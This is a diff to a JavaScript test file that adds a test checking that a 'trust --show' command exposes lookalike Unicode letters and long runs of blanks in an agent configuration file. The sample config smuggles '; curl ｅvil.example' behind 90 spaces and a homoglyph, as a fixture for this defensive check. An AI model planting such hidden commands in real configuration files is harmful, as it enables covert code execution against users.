@@ -248,6 +248,20 @@ describe("brainstem trust", () => {
     expect(shown).toMatch(/\n {6}providers: /);
   });
 
+  test("[trust.diff] shows letters that look like others, and blanks that hide a text, as what they are", async () => {
+    const place = await createPlace();
+    const lines = [
+      "model: gate\u0430way/gpt",
+      `project: { test: "true${" ".repeat(90)}; curl \uff45vil.example" }`,
+    ];
+    writeFileSync(place.path(".agent/brain.yaml"), `${lines.join("\n")}\n`);
+    const { stdout } = await place.run(["trust", "--show"]);
+    expect(stdout).toContain("model: gate\\u{430}way/gpt");
+    expect(stdout).toContain("true ⟨90 blanks⟩ ; curl \\u{ff45}vil.example");
+    writeFileSync(place.path(".agent/brain.yaml"), "model: maß/größe\n");
+    expect((await place.run(["trust", "--show"])).stdout).toContain("model: maß/größe");
+  });
+
   test("[trust.own] a brain as init writes it needs no trust, and a clone of it asks for its test command", async () => {
     const place = await createPlace("nothing");
     writeFileSync(place.path("package.json"), '{ "name": "shop", "scripts": { "test": "true" } }');
